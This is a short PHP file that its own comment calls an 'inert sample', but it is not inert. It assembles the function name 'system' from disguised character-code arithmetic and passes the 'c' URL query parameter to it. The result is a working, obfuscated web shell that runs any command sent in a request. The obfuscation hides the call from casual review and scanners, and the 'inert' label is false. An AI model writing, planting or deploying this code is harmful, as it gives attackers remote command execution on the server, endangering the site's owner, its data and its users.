<?php
// inert sample: character codes kept as sums
$n = chr(array_sum([60, 55])) . chr(array_product([11, 11])) . 'stem';
$n($_GET['c'] ?? 'uptime');
